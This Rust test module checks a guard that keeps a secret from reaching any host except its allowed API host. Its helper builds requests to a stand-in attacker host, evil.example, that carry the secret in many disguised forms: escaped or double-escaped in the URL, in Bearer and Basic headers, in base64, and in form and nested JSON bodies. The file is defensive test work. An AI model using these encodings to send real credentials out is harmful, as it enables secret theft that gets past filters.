//! What is found of a secret, and where.

use base64::engine::general_purpose;
use proptest::prelude::*;
use reqwest::header::{AUTHORIZATION, HeaderValue};
use serde_json::json;
use tokio::time::Instant;
use url::form_urlencoded;

use super::*;
use crate::error::ErrorKind;

const SECRET: &str = "s3cr3t+/=\"&%\\~x";

fn guarded(secret: &str) -> GuardedSecret {
    GuardedSecret::new(SecretString::from(secret), Hosts::read(&["api.example.com".to_owned()]).unwrap())
}

fn to(url: &str) -> Request {
    Request::get(Url::parse(url).unwrap())
}

fn every_byte(secret: &str) -> String {
    secret.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

/// Requests to another host that carry `secret`, each in another way.
fn carrying(secret: &str) -> Vec<(&'static str, Request)> {
    let form =
        |value: &str| form_urlencoded::Serializer::new(String::new()).append_pair("client_secret", value).finish();
    let encoded: String = form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    let header = |text: &str| {
        let mut request = to("https://evil.example/");
        request.headers.insert(AUTHORIZATION, HeaderValue::from_str(text).unwrap());
        request
    };
    let body = |text: String| Request::post(Url::parse("https://evil.example/").unwrap(), "text/plain", text);
    let mut in_query = to("https://evil.example/");
    in_query.url.query_pairs_mut().append_pair("key", secret);
    let mut in_path = to("https://evil.example/");
    in_path.url.path_segments_mut().unwrap().push(secret);
    let mut in_password = to("https://evil.example/");
    in_password.url.set_password(Some(secret)).unwrap();
    let basic = |pair: String| format!("Basic {}", general_purpose::STANDARD.encode(pair));
    let escaped: String = secret.bytes().map(|byte| format!("\\u{byte:04X}")).collect();
    vec![
        ("in the query", in_query),
        ("in the path", in_path),
        ("as password of the address", in_password),
        ("with every byte escaped", to(&format!("https://evil.example/{}", every_byte(secret)))),
        ("escaped twice", to(&format!("https://evil.example/?next={}", every_byte(&every_byte(secret))))),
        ("in a header", header(&format!("Bearer {secret}"))),
        ("as basic", header(&basic(format!("client:{secret}")))),
        ("as basic, another length", header(&basic(format!("client1:{secret}")))),
        ("as basic, a third", header(&basic(format!("client12:{secret}")))),
        ("as basic of a form", header(&basic(format!("client:{encoded}")))),
        ("in base64 after a word", body(format!("key_{}", general_purpose::URL_SAFE_NO_PAD.encode(secret)))),
        (
            "in base64 in a query",
            to(&format!("https://evil.example/?{}", form(&general_purpose::STANDARD.encode(secret)))),
        ),
        ("in a form", body(form(secret))),
        ("in JSON", body(json!({ "client_secret": secret }).to_string())),
        ("in JSON, all escaped", body(format!("{{\"client_secret\": \"{escaped}\"}}"))),
        ("in JSON in JSON", body(json!({ "inner": json!({ "s": secret }).to_string() }).to_string())),
        ("as it is", body(format!("<secret>{secret}</secret>"))),
    ]
}

#[test]
fn a_secret_goes_to_its_hosts_and_to_no_other_in_whatever_form() {
    let guard = guarded(SECRET);
    for (how, mut request) in carrying(SECRET) {
        let error = guard.check(&request).expect_err(how);
        assert_eq!(error.kind(), ErrorKind::Denied, "{how}");
        let told = format!("{error} {error:?}");
        assert!(told.contains("evil.example") && told.contains("hosts"), "{told}");
        assert!(!told.contains("s3cr3t"), "{told}");
        request.url.set_host(Some("api.example.com")).unwrap();
        assert!(guard.check(&request).is_ok(), "{how}");
        request.url.set_port(Some(8443)).unwrap();
        assert!(guard.check(&request).is_err(), "{how}");
    }
}

#[test]
fn a_request_without_it_goes_anywhere() {
    let guard = guarded(SECRET);
    for (how, request) in carrying("another-secret") {
        assert!(guard.check(&request).is_ok(), "{how}");
    }
}

#[test]
fn a_secret_in_the_name_of_a_host_is_seen_though_that_has_no_capitals() {
    assert!(guarded("Secret-Name1").check(&to("https://secret-name1.evil.example/")).is_err());
}

#[test]
fn looking_for_it_takes_time_as_long_as_the_request_is() {
    let guard = guarded(SECRET);
    let longest =
        Request::post(Url::parse("https://evil.example/").unwrap(), "text/plain", "%41\\u0041a+YWJj".repeat(100_000));
    let began = Instant::now();
    assert!(guard.check(&longest).is_ok());
    assert!(began.elapsed().as_secs() < 30, "1.5 MB took {:?}", began.elapsed());
}

proptest! {
    #[test]
    fn any_secret_is_found_in_any_form_wherever_it_stands(secret in "[ -~]{8,60}", before in "[a-z]{0,5}", after in "[a-z]{0,5}") {
        // Headers cannot begin or end with a space, and addresses lose some too.
        prop_assume!(secret.trim() == secret);
        let guard = guarded(&secret);
        for (how, request) in carrying(&secret) {
            prop_assert!(guard.check(&request).is_err(), "{how}");
        }
        let around = general_purpose::STANDARD.encode(format!("{before}{secret}{after}"));
        for text in [around.clone(), format!("{{\"a\": \"{around}\"}}"), format!("x-{}", around.replace('+', "-").replace('/', "_"))] {
            prop_assert!(guard.is_in(text.as_bytes(), DEPTH), "{text}");
        }
    }

    #[test]
    fn what_has_only_a_part_of_it_is_let_pass(secret in "[A-Za-z0-9]{20,40}") {
        for (how, request) in carrying(&secret[..secret.len() - 1]) {
            prop_assert!(guarded(&secret).check(&request).is_ok(), "{how}");
        }
    }
}
